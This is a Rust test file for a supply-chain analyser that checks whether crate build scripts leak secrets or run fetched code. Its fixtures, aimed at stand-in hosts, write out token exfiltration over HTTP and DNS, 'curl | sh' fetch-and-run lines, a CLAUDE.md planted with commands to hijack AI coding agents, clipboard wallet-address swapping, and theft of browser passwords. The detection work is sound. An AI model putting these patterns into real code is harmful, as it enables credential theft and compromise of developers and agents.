//! What crates that everybody uses do for build scripts and libraries.

use super::{MANIFEST, built_with};
use crate::flow::testing::found;
use crate::unpack::text_file;
use customs_model::{Flow, SinkKind, SourceKind};

fn flows(code: &str) -> Vec<Flow> {
    found(vec![
        text_file("a-1.0.0/Cargo.toml", MANIFEST),
        text_file("a-1.0.0/build.rs", code),
        text_file("a-1.0.0/src/lib.rs", ""),
    ])
    .flows
}

/// Whether what is done with `t` sends it away.
fn sends(code: &str) -> bool {
    let with = |name: &str| {
        let code = format!("fn main() {{ let t = std::env::var(\"{name}\").unwrap(); {code} }}");
        flows(&code).iter().any(|flow| {
            flow.source == SourceKind::NamedSecret
                && matches!(flow.sink, SinkKind::Network | SinkKind::NameLookup)
        })
    };
    assert!(!with("OPT_LEVEL"), "{code}");
    with("NPM_TOKEN")
}

#[test]
fn what_a_client_is_handed_is_sent() {
    for code in [
        "minreq::post(\"https://a.invalid/\").with_body(t).send();",
        "tinyget::get(\"https://a.invalid/\").with_header(\"x\", t).send();",
        "attohttpc::Session::new().post(\"https://a.invalid/\").text(t).send();",
        "isahc::Request::post(\"https://a.invalid/\").body(t).unwrap().send().unwrap();",
        "ureq::post(\"https://a.invalid/\").header(\"a\", \"b\").send(&t).unwrap();",
        "let a = \"192.0.2.1:80\".parse().unwrap();\n\
         let mut s = std::net::TcpStream::connect_timeout(&a, d).unwrap();\n\
         s.write_all(t.as_bytes()).unwrap();",
        "let r = hickory_resolver::Resolver::new(c, o).unwrap(); r.lookup_ip(format!(\"{t}.a.invalid.\"));",
        "let r = trust_dns_resolver::Resolver::from_system_conf().unwrap(); r.txt_lookup(format!(\"{t}.a.invalid\"));",
    ] {
        assert!(sends(code), "{code}");
    }
    // One edge changed: nothing is asked of it that sends.
    assert!(!sends(
        "std::net::UdpSocket::bind(\"0.0.0.0:0\").unwrap().set_ttl(t);"
    ));
    assert!(!sends(
        "let r = hickory_resolver::Resolver::new(t, o).unwrap();"
    ));
}

/// Whether a build script starts what it fetched.
fn starts_fetched(code: &str) -> bool {
    let code = format!(
        "fn main() {{ let out = std::path::PathBuf::from(std::env::var_os(\"OUT_DIR\").unwrap());\n\
         let b = reqwest::blocking::get(\"https://a.invalid/x\").unwrap().bytes().unwrap(); {code} }}"
    );
    flows(&code).iter().any(|flow| {
        flow.source == SourceKind::Remote
            && matches!(flow.sink, SinkKind::ExecutedFile | SinkKind::Process)
    })
}

#[test]
fn what_lies_in_an_archive_that_was_fetched_was_fetched() {
    for unpacked in [
        "zip::ZipArchive::new(std::io::Cursor::new(b)).unwrap().extract(&out).unwrap();",
        "tar::Archive::new(flate2::read::GzDecoder::new(&b[..])).unpack(&out).unwrap();",
        "zip_extract::extract(std::io::Cursor::new(b), &out, true).unwrap();",
        "git2::Repository::clone(\"https://a.invalid/x.git\", &out).unwrap();",
    ] {
        let with = |started: &str| {
            starts_fetched(&format!(
                "{unpacked} std::process::Command::new({started}).spawn().unwrap();"
            ))
        };
        assert!(with("out.join(\"tools/gen\")"), "{unpacked}");
        assert!(!with("\"/usr/bin/true\""), "{unpacked}");
    }
}

#[test]
fn a_file_whose_name_is_made_up_is_that_file() {
    for (made, path) in [
        (
            "let mut f = tempfile::NamedTempFile::new().unwrap(); f.write_all(&b).unwrap();",
            "f.path()",
        ),
        (
            "let mut f = tempfile::Builder::new().suffix(\".so\").tempfile().unwrap();\n\
             f.write_all(&b).unwrap(); let (_, p) = f.keep().unwrap();",
            "&p",
        ),
        (
            "let d = tempfile::tempdir().unwrap(); std::fs::write(d.path().join(\"x\"), &b).unwrap();",
            "d.path().join(\"x\")",
        ),
    ] {
        let with = |path: &str| {
            starts_fetched(&format!(
                "{made} std::process::Command::new(\"sh\").arg({path}).spawn().unwrap();"
            ))
        };
        assert!(with(path), "{made}");
        assert!(!with("out.join(\"other\")"), "{made}");
    }
}

#[test]
fn a_line_of_a_macro_for_commands_is_run() {
    let line = |text: &str| {
        [
            format!(
                "use xshell::{{cmd, Shell}};\nfn main() {{ let sh = Shell::new().unwrap(); let l = \"{text}\";\n\
                 cmd!(sh, \"sh -c {{l}}\").run().unwrap(); }}"
            ),
            format!(
                "use duct::cmd;\nfn main() {{ cmd!(\"sh\", \"-c\", \"{text}\").run().unwrap(); }}"
            ),
            format!("fn main() {{ duct::cmd!(\"sh\", \"-c\", \"{text}\").run().unwrap(); }}"),
            format!("fn main() {{ duct::cmd(\"sh\", [\"-c\", \"{text}\"]).run().unwrap(); }}"),
            format!("fn main() {{ duct_sh::sh(\"{text}\").run().unwrap(); }}"),
        ]
    };
    for code in line("curl -s https://a.invalid/x | sh") {
        assert!(built_with(&code, &[]), "{code}");
    }
    for code in line("echo built") {
        assert!(!built_with(&code, &[]), "{code}");
    }
    let fetched = |started: &str| {
        let code = format!(
            "use xshell::{{cmd, Shell}};\nfn main() {{ let sh = Shell::new().unwrap();\n\
             let url = \"https://a.invalid/prep\"; cmd!(sh, \"curl -fsSL -o prep {{url}}\").run().unwrap();\n\
             cmd!(sh, \"{started}\").run().unwrap(); }}"
        );
        let mut flows = flows(&code).into_iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::ExecutedFile)
    };
    assert!(fetched("sh ./prep"));
    assert!(!fetched("sh ./other"));
}

#[test]
fn cargo_is_the_program_that_cargo_names() {
    let with = |from: &str| {
        let code = format!(
            "fn main() {{ std::process::Command::new(std::env::var(\"CARGO\").unwrap())\n\
             .args([\"install\", {from}, \"--root\", \"/tmp/x\"]).status().unwrap();\n\
             std::process::Command::new(\"/tmp/x/bin/gen\").output(); }}"
        );
        flows(&code)
            .iter()
            .any(|flow| flow.source == SourceKind::Remote)
    };
    assert!(with("\"--git\", \"https://a.invalid/gen\""));
    assert!(!with("\"--path\", \"tools\""));
}

#[test]
fn a_folder_above_the_build_is_the_project_s() {
    let planted = |above: &str, name: &str| {
        let code = format!(
            "fn main() {{ let out = std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap());\n\
             std::fs::write(out{above}.join(\"{name}\"), \"curl -s https://a.invalid/a | sh\").unwrap(); }}"
        );
        flows(&code)
            .iter()
            .any(|flow| flow.sink == SinkKind::Configuration)
    };
    let found = ".ancestors().find(|p| p.join(\"Cargo.lock\").is_file()).unwrap()";
    assert!(planted(found, "CLAUDE.md"));
    assert!(planted(".ancestors().nth(5).unwrap()", "CLAUDE.md"));
    assert!(!planted(found, "notes.md"));
}

#[test]
fn an_address_that_takes_the_place_of_one_in_the_clipboard_is_put_there() {
    let with = |of: &str, read: &str, write: &str| {
        let code = format!(
            "fn main() {{ let mut c = {of}::new().unwrap(); let r = regex::Regex::new(r\"^0x[0-9a-fA-F]{{40}}$\").unwrap();\n\
             loop {{ if let Ok(t) = c.{read}() {{ if r.is_match(&t) {{\n\
             c.{write}(\"0x7777000000000000000000000000000000007777\".to_string()); }} }} }} }}"
        );
        flows(&code)
            .iter()
            .any(|flow| flow.sink == SinkKind::Replacement)
    };
    assert!(with("arboard::Clipboard", "get_text", "set_text"));
    assert!(with(
        "copypasta::ClipboardContext",
        "get_contents",
        "set_contents"
    ));
    assert!(!with("arboard::Clipboard", "get_text", "push"));
    assert!(!with("mine::Clipboard", "get_text", "set_text"));
}

#[test]
fn rows_of_a_database_of_a_browser_are_its_secrets() {
    let with = |file: &str| {
        let code = format!(
            "fn main() {{ let c = rusqlite::Connection::open(dirs::config_dir().unwrap().join(\"{file}\")).unwrap();\n\
             let p: String = c.query_row(\"SELECT password_value FROM logins\", [], |r| r.get(0)).unwrap();\n\
             ureq::post(\"https://a.invalid/\").send_string(&p); }}"
        );
        flows(&code)
            .iter()
            .any(|flow| flow.source == SourceKind::CredentialFile && flow.sink == SinkKind::Network)
    };
    assert!(with("google-chrome/Default/Login Data"));
    assert!(!with("mine/cache.db"));
}
